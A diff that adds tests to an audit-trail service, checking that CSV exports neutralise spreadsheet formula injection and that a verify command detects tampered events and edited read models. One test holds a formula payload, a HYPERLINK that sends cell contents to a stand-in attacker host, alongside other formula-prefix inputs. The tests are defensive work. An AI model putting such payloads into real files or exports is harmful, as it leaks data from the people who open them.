@@ -11,7 +11,7 @@ import sys
 import zipfile
 from pathlib import Path
 
-from tests.e2e.builders import audit_body, make_plan
+from tests.e2e.builders import audit_body, make_plan, remedial_action
 from tests.e2e.test_server import run
 
 
@@ -230,3 +230,93 @@ def test_the_trail_filters_by_recording_time_and_entity(auditor, manager, inspec
     assert {r["entity_id"] for r in plans} == {plan["id"]}
     bad = inspector.get("/api/trail?entity_type=child")
     assert bad.status_code == 422 and "entity_type" in bad.json["errors"]["query"]
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_made_inert(auditor, manager, inspector):
+    link = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the case")'
+    audit = auditor.post("/api/audits", audit_body(actions=[remedial_action(description=link)]))
+    assert audit.status_code == 201, audit.json
+    action_id = audit.json["actions"][0]["id"]
+    for month, reason in enumerate((link, "+SUM(1,2)", "-2+3", "@cmd"), 3):
+        response = manager.post(
+            f"/api/actions/{action_id}/reschedule",
+            {"due_on": f"2019-{month:02}-28", "reason": reason},
+        )
+        assert response.status_code == 200, response.json
+    rows = list(csv.DictReader(io.StringIO(inspector.get("/api/trail?format=csv").text)))
+    reasons = [row["reason"] for row in rows if row["event_type"] == "Rescheduled"]
+    assert reasons == [f"'{link}", "'+SUM(1,2)", "'-2+3", "'@cmd"]
+    [raised] = [row["summary"] for row in rows if row["event_type"] == "Raised"]
+    assert raised.startswith(f"Action raised on case CS-104233: {link}")  # not a formula
+    as_json = inspector.get("/api/trail?event_type=Rescheduled").json["items"]
+    assert as_json[0]["reason"] == link  # JSON is not a spreadsheet: it says what was written
+
+
+def test_a_csv_cell_starting_with_a_tab_or_return_is_made_inert_too():
+    """The API trims such text on the way in; an event written past it is still safe."""
+    from qa_service.exports import TRAIL_COLUMNS, trail_csv
+
+    row = dict.fromkeys(TRAIL_COLUMNS, "plain")
+    lines = [{**row, "reason": "\t=1+1"}, {**row, "reason": "\r=1+1"}]
+    reasons = [r["reason"] for r in csv.DictReader(io.StringIO("".join(trail_csv(lines))))]
+    assert reasons == ["'\t=1+1", "'\r=1+1"]
+
+
+def _break_event_3(service) -> None:
+    """Event 3's stored state made into something the log never writes: text on SQLite
+    (its columns take any type), NULL on PostgreSQL."""
+    from tests.integration.test_trail import sql, switch_off_protection, table
+
+    switch_off_protection(service)
+    events, position = table(service)
+    value = "state || x'00'" if service.settings.is_sqlite else "NULL"
+    sql(service, f"UPDATE {events} SET state = {value} WHERE {position} = 3")
+
+
+def test_verify_names_an_unreadable_event_over_http_and_on_the_command_line(
+    settings, service, manager, inspector
+):
+    make_plan(manager)
+    _break_event_3(service)
+    response = inspector.get("/api/trail/verify")
+    assert response.status_code == 200
+    verdict = response.json
+    assert (verdict["ok"], verdict["position"], verdict["problem"]) == (False, 3, "altered")
+    cli = run(settings, "verify", check=False)
+    assert cli.returncode == 1, cli.stdout + cli.stderr
+    assert cli.stdout.startswith("NOT OK: altered at position 3: the stored event at position 3")
+    assert "Traceback" not in cli.stderr
+
+
+def test_verify_names_a_read_model_edited_behind_the_events(settings, service, manager, inspector):
+    from uuid import UUID
+
+    from sqlalchemy import update
+
+    from projections.actions import action_versions
+
+    plan = make_plan(manager)
+    action_id = plan["recommendations"][0]["actions"][0]["id"]
+    with service.engine.begin() as conn:  # someone with write access to the tables
+        conn.execute(
+            update(action_versions)
+            .where(action_versions.c.entity_id == UUID(action_id))
+            .values(status="done")
+        )
+    assert inspector.get(f"/api/actions/{action_id}").json["status"] == "done"
+    verdict = inspector.get("/api/trail/verify").json
+    assert (verdict["ok"], verdict["read_models_ok"]) == (False, False)
+    [drift] = verdict["drift"]
+    assert (drift["read_model"], drift["table"], drift["key"], drift["entity_id"]) == (
+        "actions", "action_versions", "action_id", action_id
+    )  # fmt: skip
+    cli = run(settings, "verify", check=False)
+    assert cli.returncode == 1
+    assert cli.stdout.startswith(
+        f"NOT OK: the read model actions differs from the events (action_versions, action_id "
+        f"{action_id}): status is 'done' in the read model, 'not_started' from the events"
+    )
+    # Rebuilding the read model from the events puts it right.
+    run(settings, "projections", "rebuild", "actions")
+    assert inspector.get(f"/api/actions/{action_id}").json["status"] == "not_started"
+    assert "every read model matches the events" in run(settings, "verify").stdout
